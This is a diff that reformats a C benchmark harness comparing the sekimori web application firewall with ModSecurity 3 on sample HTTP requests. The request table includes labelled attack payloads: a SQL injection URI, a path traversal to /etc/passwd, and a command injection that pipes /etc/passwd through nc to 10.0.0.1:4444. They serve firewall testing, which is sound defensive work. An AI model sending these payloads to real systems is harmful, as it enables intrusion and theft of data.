@@ -31,40 +31,57 @@ struct req {
 };
 
 static const char *const browser[] = {
-    "Host", "shop.example.org",
+    "Host",
+    "shop.example.org",
     "User-Agent",
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36",
     "Accept",
     "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,"
     "image/webp,*/*;q=0.8",
-    "Accept-Language", "ja,en-US;q=0.9,en;q=0.8",
-    "Accept-Encoding", "gzip, deflate, br",
-    "Referer", "https://shop.example.org/products/list.php?category_id=3",
+    "Accept-Language",
+    "ja,en-US;q=0.9,en;q=0.8",
+    "Accept-Encoding",
+    "gzip, deflate, br",
+    "Referer",
+    "https://shop.example.org/products/list.php?category_id=3",
     "Cookie",
     "eccube=8f14e45fceea167a5a36dedd4bea2543; cart_id=2c9a7b1e; lang=ja",
-    "Connection", "keep-alive",
+    "Connection",
+    "keep-alive",
     NULL};
 
 static const char *const form_headers[] = {
-    "Host", "shop.example.org",
+    "Host",
+    "shop.example.org",
     "User-Agent",
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.0.0 Safari/537.36",
-    "Accept", "text/html,application/xhtml+xml,*/*;q=0.8",
-    "Accept-Language", "ja,en-US;q=0.9,en;q=0.8",
-    "Content-Type", "application/x-www-form-urlencoded",
-    "Cookie", "eccube=8f14e45fceea167a5a36dedd4bea2543; lang=ja",
-    "Origin", "https://shop.example.org",
-    "Referer", "https://shop.example.org/donation/input.php",
+    "Accept",
+    "text/html,application/xhtml+xml,*/*;q=0.8",
+    "Accept-Language",
+    "ja,en-US;q=0.9,en;q=0.8",
+    "Content-Type",
+    "application/x-www-form-urlencoded",
+    "Cookie",
+    "eccube=8f14e45fceea167a5a36dedd4bea2543; lang=ja",
+    "Origin",
+    "https://shop.example.org",
+    "Referer",
+    "https://shop.example.org/donation/input.php",
     NULL};
 
 static const char *const json_headers[] = {
-    "Host", "shop.example.org",
-    "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0",
-    "Accept", "application/json",
-    "Content-Type", "application/json",
-    "Cookie", "eccube=8f14e45fceea167a5a36dedd4bea2543",
+    "Host",
+    "shop.example.org",
+    "User-Agent",
+    "Mozilla/5.0 (X11; Linux x86_64) Chrome/120.0.0.0",
+    "Accept",
+    "application/json",
+    "Content-Type",
+    "application/json",
+    "Cookie",
+    "eccube=8f14e45fceea167a5a36dedd4bea2543",
     NULL};
 
 /* About 1 KiB, like a donation form. */
@@ -97,8 +114,8 @@ static const struct req reqs[] = {
      "/products/detail.php?product_id=1234&category_id=3&sort=price_asc"
      "&page=2",
      browser, NULL, false},
-    {"benign form POST (1 KiB)", "POST", "/donation/confirm.php",
-     form_headers, form_body, false},
+    {"benign form POST (1 KiB)", "POST", "/donation/confirm.php", form_headers,
+     form_body, false},
     {"JSON POST", "POST", "/api/orders", json_headers, json_body, false},
     {"attack: SQLi", "GET",
      "/products/detail.php?product_id=1%27%20UNION%20SELECT%20"
@@ -110,8 +127,9 @@ static const struct req reqs[] = {
      browser, NULL, true},
     {"attack: LFI", "GET", "/help/index.php?page=..%2F..%2F..%2Fetc%2Fpasswd",
      browser, NULL, true},
-    {"attack: RCE", "GET", "/search.php?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%20"
-                           "10.0.0.1%204444",
+    {"attack: RCE", "GET",
+     "/search.php?q=%3Bcat%20%2Fetc%2Fpasswd%7Cnc%20"
+     "10.0.0.1%204444",
      browser, NULL, true},
 };
 
@@ -136,8 +154,7 @@ sk_one(const struct sk_waf_rules *rules, const struct req *r)
                             strlen(r->uri), "HTTP/1.1", 8);
     for (size_t i = 0; r->headers[i] != NULL; i += 2)
         sk_waf_txn_request_header(t, r->headers[i], strlen(r->headers[i]),
-                                  r->headers[i + 1],
-                                  strlen(r->headers[i + 1]));
+                                  r->headers[i + 1], strlen(r->headers[i + 1]));
     if (r->body != NULL) {
         char cl[32];
         snprintf(cl, sizeof(cl), "%zu", strlen(r->body));
@@ -283,8 +300,8 @@ main(int argc, char **argv)
         return 0;
     }
 
-    printf("%-26s %14s %14s %9s %s\n", "request", "sekimori us",
-           "modsec3 us", "ratio", "verdicts (sk/ms)");
+    printf("%-26s %14s %14s %9s %s\n", "request", "sekimori us", "modsec3 us",
+           "ratio", "verdicts (sk/ms)");
     for (size_t k = 0; k < sizeof(reqs) / sizeof(reqs[0]); k++) {
         const struct req *r = &reqs[k];
         if (only_req >= 0 && (size_t)only_req != k)
